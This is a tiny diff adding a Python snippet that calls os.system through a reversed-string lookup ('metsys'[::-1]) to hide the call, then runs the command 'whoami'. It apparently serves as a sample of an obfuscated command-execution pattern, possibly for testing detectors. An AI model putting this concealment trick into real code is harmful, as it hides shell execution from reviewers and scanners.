@@ -1,0 +1,3 @@
+import os
+fn = getattr(os, "metsys"[::-1])
+fn("whoami")
